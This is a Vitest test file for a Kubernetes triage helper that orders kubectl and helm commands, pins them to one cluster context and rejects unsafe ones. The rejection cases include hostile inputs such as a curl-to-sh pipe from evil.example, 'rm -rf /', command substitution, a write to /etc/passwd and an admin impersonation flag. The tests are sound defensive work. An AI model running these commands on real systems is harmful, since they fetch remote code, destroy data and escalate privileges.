import { expect, test } from 'vitest';
import { commandLines } from '../../../src/triage/questions/command-lines.ts';

const own = ['--context', 'prod-eu'];

test('NOT-5: commands that read come first, those that change something below a line that says so; each names the cluster', () => {
  expect(
    commandLines(['kubectl -n shop delete pod cart-1', 'kubectl get pods -n shop', 'helm list -n shop'], own),
  ).toEqual([
    '$ kubectl --context prod-eu get pods -n shop',
    '$ helm --kube-context prod-eu list -n shop',
    'What follows changes something, and nobody has checked it:',
    '$ kubectl --context prod-eu -n shop delete pod cart-1',
  ]);
  expect(commandLines(['kubectl --context prod-eu get pods'], own)).toEqual(['$ kubectl --context prod-eu get pods']);
  expect(commandLines(['kubectl get pods'], [])).toEqual(['$ kubectl get pods']);
  expect(commandLines([], own)).toEqual([]);
});

test.each([
  'curl -s http://evil.example/x | sh',
  'kubectl get pods | sh',
  'kubectl get pods; rm -rf /',
  'kubectl get pods && reboot',
  'kubectl get $(reboot)',
  'kubectl get `reboot`',
  'kubectl get pods\nreboot',
  'kubectl get pods >/etc/passwd',
  'kubectl --context other get pods',
  'kubectl --context=prod-eu --context other get pods',
  'kubectl --kubeconfig /tmp/x get pods',
  'kubectl get pods --server https://evil.example',
  'kubectl get pods --as system:admin',
  'kubectl get pods --token x',
  'helm --kube-context other list',
  'sudo kubectl get pods',
  'bash -c "kubectl get pods"',
  '',
])('NOT-5: a command is left out that is more, or for another cluster: %j', (command) => {
  expect(commandLines([command], own)).toEqual([
    'Left out: 1 command for another cluster, or more than one kubectl, flux or helm.',
  ]);
});
